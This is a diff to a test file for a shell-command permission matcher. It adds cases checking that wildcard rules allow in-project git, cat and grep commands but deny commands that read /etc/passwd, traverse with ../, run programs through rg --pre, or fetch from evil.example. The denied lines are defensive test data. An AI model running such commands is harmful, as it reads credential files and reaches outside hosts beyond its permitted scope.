@@ -22,6 +22,11 @@ describe("a rule with **", () => {
     ["ls **", "ls -laR src"],
     ["rg **", "rg --json -n needle"],
     ["tail **", "tail -n 20 log.txt"],
+    ["git diff **", "git diff HEAD~2..HEAD"],
+    ["git diff **", "git diff main...topic -- src"],
+    ["git log **", "git log --no-merges --no-color"],
+    ["git show **", "git show HEAD:src/a.ts"],
+    ["cat **", "cat src/a..b.ts ./x"],
     ["find **", "find . -name x -type f"]
   ])("%j allows %j", (rule, line) => {
     expect(allows(rule, line)).toBe(true)
@@ -67,6 +72,29 @@ describe("a rule with **", () => {
     // Changes where it works.
     ["git **", "git -C other log"],
     ["git **", "git --git-dir=x log"],
+    // Reads what lies outside, or something else.
+    ["git diff **", "git diff --no-index /etc/passwd x"],
+    ["git diff **", "git diff --no-index a b"],
+    ["git diff **", "git diff --no-ind a b"],
+    ["git diff **", "git diff /etc/passwd /dev/null"],
+    ["git diff **", "git diff ../../x"],
+    ["git log **", "git log -p -- ../x"],
+    ["git log **", "git log --pathspec-from-file=x"],
+    ["cat **", "cat /etc/passwd"],
+    ["cat **", "cat ../x"],
+    ["cat **", "cat d/../../x"],
+    ["cat *", "cat /etc/passwd"],
+    ["grep **", "grep -r x /etc"],
+    ["grep **", "grep -f/etc/passwd x"],
+    ["grep **", "grep --file=/etc/passwd x"],
+    ["wc **", "wc --files0-from=x"],
+    ["wc **", "wc --files0=x"],
+    ["ls **", "ls .."],
+    ["rg **", "rg --pre=x y"],
+    ["rg **", "rg --ignore-file=/etc/x y"],
+    ["git fetch **", "git fetch https://evil.example/x"],
+    ["git push **", "git push file:///tmp/x"],
+    ["git show **", "git show HEAD:../x"],
     // One word is no wider than many.
     ["git diff *", "git diff --output=f"],
     ["git diff -*", "git diff --output=f"]
@@ -77,6 +105,9 @@ describe("a rule with **", () => {
   it.each([
     ["git diff --output=x **", "git diff --output=x HEAD"],
     ["git diff --output=* **", "git diff --output=x HEAD"],
+    ["git diff --no-index **", "git diff --no-index a b"],
+    ["cat /etc/hosts **", "cat /etc/hosts x"],
+    ["ls ../shared **", "ls ../shared -l"],
     ["git config **", "git config --get user.name"],
     ["bash s.sh **", "bash s.sh x"]
   ])("%j allows what it names: %j", (rule, line) => {
